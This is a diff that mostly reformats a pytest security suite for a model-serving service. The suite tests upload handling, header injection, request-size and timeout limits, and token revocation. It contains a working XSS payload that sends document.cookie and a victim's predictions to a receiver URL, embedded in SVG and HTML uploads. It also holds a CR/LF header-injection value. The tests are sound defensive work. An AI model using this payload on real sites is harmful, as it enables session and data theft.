@@ -7,7 +7,6 @@ from __future__ import annotations
 import base64
 import http.server
 import io
-import json
 import re
 import select
 import socket
@@ -27,9 +26,11 @@ from service_harness import ROOT, WORKER_TOKEN, Api, ServiceProcess
 from .conftest import GENERATE, TRAIN
 
 # A script that, wherever it runs, tells the receiver what it could read: the cookie, and the victim's predictions.
-STEAL = ("fetch('/v1/predictions',{headers:{'X-LoRA-Studio-Page':'1'}}).then(r=>r.text()).catch(e=>'')"
-         ".then(t=>fetch('{recv}/stolen?c='+encodeURIComponent(document.cookie)+'&p='+encodeURIComponent(t)));"
-         "new Image().src='{recv}/ran?c='+encodeURIComponent(document.cookie);document.title='PWNED'")
+STEAL = (
+    "fetch('/v1/predictions',{headers:{'X-LoRA-Studio-Page':'1'}}).then(r=>r.text()).catch(e=>'')"
+    ".then(t=>fetch('{recv}/stolen?c='+encodeURIComponent(document.cookie)+'&p='+encodeURIComponent(t)));"
+    "new Image().src='{recv}/ran?c='+encodeURIComponent(document.cookie);document.title='PWNED'"
+)
 
 
 class Receiver(http.server.BaseHTTPRequestHandler):
@@ -37,7 +38,7 @@ class Receiver(http.server.BaseHTTPRequestHandler):
 
     hits: list[str] = []
 
-    def do_GET(self):  # noqa: N802
+    def do_GET(self):
         Receiver.hits.append(self.path)
         self.send_response(204)
         self.end_headers()
@@ -68,15 +69,23 @@ def _upload(api: Api, name: str, payload: bytes, content_type: str) -> str:
 def test_an_upload_opened_by_another_signed_in_owner_runs_no_script(hardened, receiver, tmp_path):
     mallory, victor_token = hardened.api("mallory"), hardened.process.token("victor")
     script = STEAL.replace("{recv}", receiver)
-    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script>'
-           '<circle r="9"/></svg>').encode()
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script><circle r="9"/></svg>'
+    ).encode()
     html = f"<html><body><script>{script}</script></body></html>".encode()
-    ids = [_upload(mallory, "cat.svg", svg, "image/svg+xml"),
-           _upload(mallory, "cat.png", html, "image/png"),  # an HTML page that says it is a PNG
-           _upload(mallory, "cat.png", html, "image/png, text/html")]
+    ids = [
+        _upload(mallory, "cat.svg", svg, "image/svg+xml"),
+        _upload(mallory, "cat.png", html, "image/png"),  # an HTML page that says it is a PNG
+        _upload(mallory, "cat.png", html, "image/png, text/html"),
+    ]
     # a training input given as a data: URI becomes one of mallory's uploads too
-    made = mallory("POST", f"/v1/models/{TRAIN}/predictions", json={"input": {
-        "instance_data": "data:image/svg+xml;base64," + base64.b64encode(svg).decode(), "task": "object"}})
+    made = mallory(
+        "POST",
+        f"/v1/models/{TRAIN}/predictions",
+        json={
+            "input": {"instance_data": "data:image/svg+xml;base64," + base64.b64encode(svg).decode(), "task": "object"}
+        },
+    )
     assert made.status_code == 201, made.text
     ids.append(made.json()["input"]["instance_data"].rstrip("/").rsplit("/", 1)[1])
     urls = [_download_url(mallory, i) for i in ids]
@@ -118,8 +127,12 @@ def test_only_a_raster_image_whose_bytes_match_is_shown_inline(hardened):
     # a PNG sent under another image type is stored as what it is; a type with a CR/LF is never stored as given
     relabelled = alice("GET", f"/v1/files/{_upload(alice, 'red.gif', png.getvalue(), 'image/gif')}").json()
     assert relabelled["content_type"] == "image/png"
-    r = alice("POST", "/v1/files", files={"content": ("a.txt", b"hello", "text/plain")},
-              data={"content_type": "text/plain\r\nX-Injected: 1"})
+    r = alice(
+        "POST",
+        "/v1/files",
+        files={"content": ("a.txt", b"hello", "text/plain")},
+        data={"content_type": "text/plain\r\nX-Injected: 1"},
+    )
     assert r.status_code == 201 and r.json()["content_type"] == "application/octet-stream", r.text
     assert "X-Injected" not in requests.get(r.json()["urls"]["download"], timeout=10).headers
 
@@ -144,11 +157,17 @@ def test_one_owner_flooding_the_queue_delays_another_by_at_most_one_prediction_p
 @pytest.fixture(scope="module")
 def limited(tmp_path_factory):
     """A service with small per-owner limits and short timeouts, and no generation worker (so predictions wait)."""
-    service = ServiceProcess(tmp_path_factory.mktemp("limited"), env={
-        "LORA_STUDIO_WORKERS": "lora-studio/lora=0;lora-studio/lora-training=0",
-        "LORA_STUDIO_OWNER_CREATES_PER_MINUTE": "6", "LORA_STUDIO_OWNER_MAX_QUEUED": "4",
-        "LORA_STUDIO_OWNER_UPLOAD_BYTES": "100000", "LORA_STUDIO_HEADER_TIMEOUT_S": "2",
-        "LORA_STUDIO_BODY_TIMEOUT_S": "2"}).start(wait_workers=False)
+    service = ServiceProcess(
+        tmp_path_factory.mktemp("limited"),
+        env={
+            "LORA_STUDIO_WORKERS": "lora-studio/lora=0;lora-studio/lora-training=0",
+            "LORA_STUDIO_OWNER_CREATES_PER_MINUTE": "6",
+            "LORA_STUDIO_OWNER_MAX_QUEUED": "4",
+            "LORA_STUDIO_OWNER_UPLOAD_BYTES": "100000",
+            "LORA_STUDIO_HEADER_TIMEOUT_S": "2",
+            "LORA_STUDIO_BODY_TIMEOUT_S": "2",
+        },
+    ).start(wait_workers=False)
     yield service
     service.stop()
 
@@ -194,16 +213,26 @@ def _raw(url: str, request: bytes, read_timeout: float = 10) -> tuple[bytes, flo
 def test_a_60_mb_body_is_refused_at_once_without_being_read(limited):
     token = limited.token("big")
     for auth in (b"", f"Authorization: Bearer {token}\r\n".encode()):
-        head = (f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
-                f"Content-Length: {60 * 2**20}\r\n").encode() + auth + b"\r\n"
+        head = (
+            (
+                f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                f"Content-Length: {60 * 2**20}\r\n"
+            ).encode()
+            + auth
+            + b"\r\n"
+        )
         answer, seconds = _raw(limited.url, head + b'{"input": [' + b"1," * 500)
         assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
         assert seconds < 1.0, seconds  # the 60 MB were never sent, so never read
     # streamed without a declared length: cut off past the JSON limit (1 MB), not read to the end
     host, port = limited.url.split("//")[1].split(":")
     with socket.create_connection((host, int(port)), timeout=10) as s:
-        s.sendall((f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
-                   f"Authorization: Bearer {token}\r\nTransfer-Encoding: chunked\r\n\r\n").encode())
+        s.sendall(
+            (
+                f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                f"Authorization: Bearer {token}\r\nTransfer-Encoding: chunked\r\n\r\n"
+            ).encode()
+        )
         sent, chunk = 0, b"x" * 2**20
         try:
             for _ in range(60):
@@ -223,11 +252,16 @@ def test_malformed_numbers_and_text_are_4xx_and_store_nothing(limited):
     before = len(api("GET", "/v1/predictions").json()["results"])
     file_id = _upload(api, "a.txt", b"hello", "text/plain")
     for expires in ("١٢٣٤٥٦٧٨٩٠", "9" * 5000, "1e10", "-5"):
-        assert requests.get(f"{limited.url}/files/{file_id}/a.txt", params={"expires": expires, "sig": "x"},
-                            timeout=10).status_code == 404
+        assert (
+            requests.get(
+                f"{limited.url}/files/{file_id}/a.txt", params={"expires": expires, "sig": "x"}, timeout=10
+            ).status_code
+            == 404
+        )
     for prefer in ("wait=" + "9" * 5000, "wait=١٠".encode(), "wait=-1", "wait=1.5"):  # bytes: UTF-8 on the wire
-        r = api("POST", f"/v1/models/{GENERATE}/predictions", json={"input": {"prompt": "x"}},
-                headers={"Prefer": prefer})
+        r = api(
+            "POST", f"/v1/models/{GENERATE}/predictions", json={"input": {"prompt": "x"}}, headers={"Prefer": prefer}
+        )
         assert r.status_code == 400 and "Prefer" in r.json()["detail"], (prefer, r.text[:200])
     deep = '{"input": {"prompt": "x", "extra": ' + "[" * 500 + "]" * 500 + "}}"
     surrogate = '{"input": {"prompt": "a \\ud800 cat"}}'
@@ -259,9 +293,14 @@ def test_slow_headers_and_stalled_bodies_do_not_hold_the_server(limited):
                 break
         assert closed is not None and closed < 6, closed  # LORA_STUDIO_HEADER_TIMEOUT_S=2
     token = limited.token("slowbody")
-    answer, seconds = _raw(limited.url, (f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\n"
-                                         f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
-                                         "Content-Length: 1000\r\n\r\n{\"input\"").encode())
+    answer, seconds = _raw(
+        limited.url,
+        (
+            f"POST /v1/models/{GENERATE}/predictions HTTP/1.1\r\nHost: x\r\n"
+            f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
+            'Content-Length: 1000\r\n\r\n{"input"'
+        ).encode(),
+    )
     assert answer.startswith(b"HTTP/1.1 408") and seconds < 6, (answer[:200], seconds)
     assert requests.get(f"{limited.url}/health", timeout=5).json() == {"status": "ok"}
 
@@ -269,8 +308,12 @@ def test_slow_headers_and_stalled_bodies_do_not_hold_the_server(limited):
 def test_health_says_only_up_and_the_workers_need_the_worker_token(limited):
     assert requests.get(f"{limited.url}/health", timeout=5).json() == {"status": "ok"}
     assert requests.get(f"{limited.url}/internal/health", timeout=5).status_code == 401
-    assert requests.get(f"{limited.url}/internal/health", headers={"Authorization": f"Bearer {limited.token('x')}"},
-                        timeout=5).status_code == 401
+    assert (
+        requests.get(
+            f"{limited.url}/internal/health", headers={"Authorization": f"Bearer {limited.token('x')}"}, timeout=5
+        ).status_code
+        == 401
+    )
 
 
 def test_a_revoked_token_is_refused_at_once_and_tokens_are_listed_without_the_token(limited):
@@ -278,8 +321,9 @@ def test_a_revoked_token_is_refused_at_once_and_tokens_are_listed_without_the_to
     api = Api(limited.url, token)
     assert api("GET", "/v1/predictions").status_code == 200
     cli = [sys.executable, "-m", "lora_core.cli", "token"]
-    listed = subprocess.run([*cli, "list", "--owner", "leaver"], cwd=ROOT, env=limited.env, capture_output=True,
-                            text=True, check=True).stdout
+    listed = subprocess.run(
+        [*cli, "list", "--owner", "leaver"], cwd=ROOT, env=limited.env, capture_output=True, text=True, check=True
+    ).stdout
     assert token[:7] in listed and token not in listed
     token_id = listed.split()[0]
     subprocess.run([*cli, "revoke", token_id], cwd=ROOT, env=limited.env, check=True, capture_output=True)
